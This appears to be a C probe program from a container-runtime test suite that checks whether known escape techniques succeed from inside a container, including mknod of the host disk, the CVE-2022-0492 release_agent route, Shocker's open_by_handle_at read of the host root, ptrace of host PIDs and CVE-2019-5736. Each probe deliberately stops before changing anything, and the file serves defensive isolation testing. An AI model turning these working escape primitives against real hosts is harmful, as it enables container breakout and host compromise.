/* probe: the escape suite's attacks, run from inside a container (tests/kernel/test_escapes.py,
 * notebooks/03_capabilities.ipynb, minidocker/escapes.py).
 *
 *   probe ATTACK [ARG]   prints one line: BLOCKED|ALLOWED|ESCAPED|N/A <what happened>
 *
 * Every attack goes exactly as far as showing that it *could* succeed, and changes nothing:
 * files it would write are opened and closed unwritten, the host disk is read, never written,
 * a mounted cgroup hierarchy is a new empty one and is unmounted again, a traced process is
 * seized without stopping it and released when the probe exits.
 *
 * Built static (gcc -static), since the busybox image has no C library:
 *   gcc -static -O2 -o probe probe.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <netinet/in.h>
#include <unistd.h>

static int blocked(const char *call, int err) {
    printf("BLOCKED %s: %s (%s)\n", call, strerrorname_np(err) ? strerrorname_np(err) : "?",
           strerror(err));
    return 0;
}

/* mknod a block device for the host's disk, then read its superblock and try to mount it. */
static int mknod_disk(int argc, char **argv) {
    if (argc < 4) return fprintf(stderr, "usage: probe mknod-disk MAJOR MINOR\n"), 2;
    const char *node = "/dev/probe-disk";
    dev_t dev = makedev(atoi(argv[2]), atoi(argv[3]));
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, dev) != 0) return blocked("mknod", errno);
    int fd = open(node, O_RDONLY);
    if (fd < 0) {
        int err = errno;
        unlink(node);
        return blocked("open of the new node", err);
    }
    unsigned char magic[2] = {0, 0};
    ssize_t got = pread(fd, magic, 2, 1080); /* ext2/3/4 superblock magic: 0xEF53 */
    close(fd);
    mkdir("/tmp/probe-mnt", 0700);
    int mounted = mount(node, "/tmp/probe-mnt", "ext4", MS_RDONLY, NULL);
    int mount_err = errno;
    if (mounted == 0) umount2("/tmp/probe-mnt", MNT_DETACH);
    rmdir("/tmp/probe-mnt");
    unlink(node);
    printf("ESCAPED read the host's disk through mknod: %zd bytes, magic %02x%02x%s; "
           "mount read-only: %s\n", got, magic[1], magic[0],
           magic[0] == 0x53 && magic[1] == 0xef ? " (ext4)" : "",
           mounted == 0 ? "mounted (and unmounted)" : strerrorname_np(mount_err));
    return 0;
}

/* Open a host-wide kernel knob for writing, and close it unwritten. */
static int open_for_write(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 && errno == ENOENT) {
        printf("N/A this kernel has no %s\n", path);
        return 0;
    }
    if (fd < 0) return blocked("open for writing", errno);
    close(fd);
    printf("ALLOWED %s is open for writing (nothing was written)\n", path);
    return 0;
}

/* CVE-2022-0492: mount a cgroup v1 hierarchy to reach its release_agent, which the kernel runs
 * as host root when a group empties. First as we are; then as the CVE did, from a new user and
 * cgroup namespace (which gives CAP_SYS_ADMIN there; fixed in 5.17 by asking for it in the
 * host's user namespace). */
static const char *mounted_controller = "";

/* A new named hierarchy, or (where a cgroup namespace forbids new ones) one the host already
 * has, as the published exploits do. */
static int mount_probe_hierarchy(void) {
    static const char *options[] = {"none,name=minidocker_probe", "rdma", "memory", "devices",
                                    "pids"};
    int err = 0;
    mkdir("/tmp/probe-cg", 0700);
    for (unsigned i = 0; i < sizeof options / sizeof *options; i++) {
        if (mount("cgroup", "/tmp/probe-cg", "cgroup", 0, options[i]) == 0) {
            /* In a cgroup namespace the mount shows only our part of the tree, and
             * release_agent lives at the top: keep looking if it isn't there. */
            if (access("/tmp/probe-cg/release_agent", F_OK) == 0) {
                mounted_controller = options[i];
                return 0;
            }
            umount2("/tmp/probe-cg", MNT_DETACH);
            if (!err) err = ENOENT;
            continue;
        }
        if (!err || errno == EPERM) err = errno; /* report EPERM over "no such controller" */
    }
    rmdir("/tmp/probe-cg");
    return err;
}

static int release_agent(void) {
    int err = mount_probe_hierarchy();
    if (err) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0)
            return blocked("mount cgroup v1, and unshare for the CVE's way round", err);
        err = mount_probe_hierarchy();
        if (err) return blocked("mount cgroup v1 (also from a new user namespace)", err);
    }
    int fd = open("/tmp/probe-cg/release_agent", O_WRONLY);
    err = errno;
    if (fd >= 0) close(fd);
    umount2("/tmp/probe-cg", MNT_DETACH);
    rmdir("/tmp/probe-cg");
    if (fd < 0) return blocked("open release_agent", err);
    printf("ESCAPED mounted the cgroup v1 hierarchy %s; its release_agent (run as host root) "
           "is open for writing (nothing was written; unmounted)\n", mounted_controller);
    return 0;
}

static int kernel_module(void) {
    /* fd -1: the kernel checks CAP_SYS_MODULE (EPERM) before the fd (EBADF). */
    if (syscall(SYS_finit_module, -1, "", 0) == 0) return printf("ALLOWED ?\n"), 0;
    if (errno == EBADF) {
        printf("ALLOWED finit_module reached the fd check (EBADF): a real module would load\n");
        return 0;
    }
    if (errno == ENOSYS) {
        printf("N/A this kernel is built without loadable modules (ENOSYS)\n");
        return 0;
    }
    return blocked("finit_module", errno);
}

static int keyctl(void) {
    /* KEYCTL_GET_KEYRING_ID (0) of KEY_SPEC_USER_KEYRING (-4), create = 0: looks, changes
     * nothing. Keyrings are not namespaced: uid 0's keyring is the host root's. */
    long id = syscall(SYS_keyctl, 0, -4, 0);
    if (id < 0) return blocked("keyctl", errno);
    printf("ALLOWED keyctl: uid 0's user keyring is %ld, the host root's own\n", id);
    return 0;
}

static int ptrace_pid(int argc, char **argv) {
    if (argc < 3) return fprintf(stderr, "usage: probe ptrace PID\n"), 2;
    pid_t pid = atoi(argv[2]);
    /* PTRACE_SEIZE does not stop the tracee; exiting detaches it. */
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return blocked("ptrace", errno);
    printf("ESCAPED ptrace attached to host PID %d (released on exit)\n", pid);
    return 0;
}

/* "Shocker" (2014): guess the handle of the filesystem's root inode (ext4: inode 2) and open it
 * on the filesystem of a host file bind-mounted into the container (/etc/hostname). */
static int shocker(void) {
    int mount_fd = open("/etc/hostname", O_RDONLY);
    if (mount_fd < 0) return blocked("open /etc/hostname", errno);
    struct {
        struct file_handle h;
        unsigned int ino, gen;
    } handle = {{.handle_bytes = 8, .handle_type = 1}, 2, 0}; /* FILEID_INO32_GEN */
    int fd = open_by_handle_at(mount_fd, &handle.h, O_RDONLY | O_DIRECTORY);
    int err = errno;
    close(mount_fd);
    if (fd < 0) return blocked("open_by_handle_at", err);
    DIR *dir = fdopendir(fd);
    printf("ESCAPED opened the host's root directory by inode:");
    struct dirent *e;
    int shown = 0;
    while (dir && (e = readdir(dir)) && shown < 40)
        if (e->d_name[0] != '.') printf(" %s", e->d_name), shown++;
    printf("\n");
    if (dir) closedir(dir);
    return 0;
}

/* The classic chroot escape: chroot into a subdirectory, keep a cwd outside it, climb. */
static int chroot_escape(void) {
    struct stat before, after;
    stat("/", &before);
    mkdir("/tmp/probe-jail", 0700);
    if (chroot("/tmp/probe-jail") != 0) {
        int err = errno;
        rmdir("/tmp/probe-jail");
        return blocked("chroot", err);
    }
    for (int i = 0; i < 64; i++) chdir(".."); /* cwd was outside the jail: nothing stops us */
    chroot(".");
    stat("/", &after);
    rmdir("/tmp/probe-jail");
    if (after.st_dev == before.st_dev && after.st_ino == before.st_ino) {
        printf("BLOCKED chroot escape: climbing out of the jail ends at the container's own "
               "root (pivot_root left nothing above it)\n");
        return 0;
    }
    printf("ESCAPED chroot: reached a root above the container's\n");
    return 0;
}

static int raw_socket(void) {
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) return blocked("socket(AF_INET, SOCK_RAW)", errno);
    close(fd);
    printf("ALLOWED a raw socket: forge any packet on the container's network\n");
    return 0;
}

static int userns_regain(void) {
    if (unshare(CLONE_NEWUSER) != 0) return blocked("unshare(CLONE_NEWUSER)", errno);
    char line[256] = "";
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "CapEff:", 7) == 0) break;
    if (f) fclose(f);
    line[strcspn(line, "\n")] = 0;
    printf("ALLOWED a new user namespace with every capability in it (%s), over what it "
           "owns only\n", line);
    return 0;
}

/* CVE-2019-5736: reach the runtime's own binary through /proc/PID/exe. */
static int proc_exe(int argc, char **argv) {
    const char *path = argc > 2 ? argv[2] : "/proc/1/exe";
    int fd = open(path, O_PATH);
    if (fd < 0) return blocked("open /proc/<pid>/exe", errno);
    struct stat st;
    fstat(fd, &st);
    close(fd);
    printf("ALLOWED reached %s: device %u:%u inode %lu (not opened for writing)\n", path,
           major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino);
    return 0;
}

/* Who am I after execve: for setuid and no_new_privs (not an attack). */
static int ids(void) {
    char line[256];
    FILE *f = fopen("/proc/self/status", "r");
    printf("IDS uid=%d euid=%d", getuid(), geteuid());
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "NoNewPrivs:", 11)) {
            line[strcspn(line, "\n")] = 0;
            printf(" %s", line);
        }
    printf("\n");
    if (f) fclose(f);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "mknod-disk")) return mknod_disk(argc, argv);
    if (!strcmp(what, "sysrq")) return open_for_write("/proc/sysrq-trigger");
    if (!strcmp(what, "core-pattern")) return open_for_write("/proc/sys/kernel/core_pattern");
    if (!strcmp(what, "release-agent")) return release_agent();
    if (!strcmp(what, "module")) return kernel_module();
    if (!strcmp(what, "keyctl")) return keyctl();
    if (!strcmp(what, "ptrace")) return ptrace_pid(argc, argv);
    if (!strcmp(what, "shocker")) return shocker();
    if (!strcmp(what, "chroot")) return chroot_escape();
    if (!strcmp(what, "raw-socket")) return raw_socket();
    if (!strcmp(what, "userns")) return userns_regain();
    if (!strcmp(what, "proc-exe")) return proc_exe(argc, argv);
    if (!strcmp(what, "ids")) return ids();
    fprintf(stderr, "usage: probe ATTACK [ARG]\n");
    return 2;
}
